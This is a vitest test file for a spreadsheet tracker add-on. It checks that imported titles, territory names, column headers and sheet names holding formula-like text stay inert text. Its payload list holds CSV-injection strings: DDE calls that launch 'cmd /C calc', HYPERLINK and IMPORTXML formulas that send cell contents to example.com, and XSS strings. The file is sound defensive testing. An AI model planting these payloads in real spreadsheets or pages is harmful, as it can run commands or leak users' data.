import { describe, expect, it } from 'vitest';
import type { ImportRow } from '../../../src/messages';
import { sheetNames } from '../open';
import { importRows, link, openTracker } from './asking';

/** OWASP's examples of CSV injection, and what else begins a formula in one spreadsheet or another. */
const payloads = [
  '=1+1',
  '=1+1";=1+2',
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '+1+1',
  '-1+1',
  '-2+3+cmd|" /C calc"!D2',
  '@SUM(1+1)',
  '=HYPERLINK("https://example.com?leak="&A1&A2,"Error: click for details")',
  '=IMPORTXML(CONCAT("https://example.com/?", CONCATENATE(A2:E2)), "//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  ' =1+1',
  '"=1+1"',
  '1.5',
  '3/4',
  'TRUE',
  '#REF!',
  '[a](javascript:alert(1))',
  '<img src=x onerror=alert(1)>',
];

/** A carriage return is no character of a cell. */
const inCell = (text: string) => text.replace(/\r\n?/g, '\n');
const rows = payloads.map((title, i): ImportRow => [link(i + 1), title, '2026-01-15', 1, 2, 3, 400 + i, '2026-02-28']);

describe('texts that would be formulas', () => {
  it('are texts in the tracker, also the second time', () => {
    const addon = openTracker();
    for (const _ of [1, 2]) {
      expect(importRows(addon, { table: 'videos', rows })).toMatchObject({ ok: true, keptCount: 0 });
      const range = `B2:B${payloads.length + 1}`;
      expect(addon.values('Videos', range).flat().sort()).toEqual(payloads.map(inCell).sort());
      const { getters } = addon.model;
      const sheetId = getters.getSheetIdByName('Videos') as string;
      for (const row of payloads.keys()) {
        expect(getters.getCell({ sheetId, col: 1, row: row + 1 })?.isFormula).toBe(false);
      }
    }
    expect(importRows(addon, { table: 'videos', rows })).toMatchObject({ added: 0, updated: 0 });
  });

  it('are texts as names and shares of an audience', () => {
    const addon = openTracker();
    // Blanks around it make no other name.
    const own = payloads.filter((one) => one === one.trim());
    const names = own.map((name, i): ImportRow => [name, i / 100, '2026-02-28']);
    expect(importRows(addon, { table: 'territories', rows: names })).toMatchObject({ ok: true });
    const found = addon.values('Audience', `M2:M${own.length + 1}`).flat();
    expect(found.sort()).toEqual([...own].sort());
  });

  it('are texts in further columns and their headers', () => {
    const addon = openTracker();
    const extra = payloads.slice(0, 20);
    const target = { kind: 'sheet', name: 'New', extra } as const;
    const wide = rows.slice(0, 3).map((row) => [...row, ...extra]);
    expect(importRows(addon, { table: 'videos', rows: wide, target })).toMatchObject({ ok: true, sheetName: 'New' });
    expect(addon.values('New', 'I1:AB1')[0]).toEqual(extra.map(inCell));
    expect(addon.values('New', 'I3:AB3')[0]).toEqual(extra.map(inCell));
  });

  it.each(payloads)('may be the name of a sheet, as far as a sheet can hold it: %j', (name) => {
    const addon = openTracker();
    const before = sheetNames(addon);
    const target = { kind: 'sheet', name, extra: [] } as const;
    const reply = importRows(addon, { table: 'videos', rows: rows.slice(0, 1), target });
    expect(reply).toMatchObject({ ok: true });
    const made = sheetNames(addon).filter((one) => !before.includes(one));
    expect(made).toHaveLength(1);
    expect(reply).toMatchObject({ sheetName: made[0] });
    expect(addon.values(made[0] as string, 'A2:B2')).toEqual([[link(1), payloads[0]]]);
  });
});
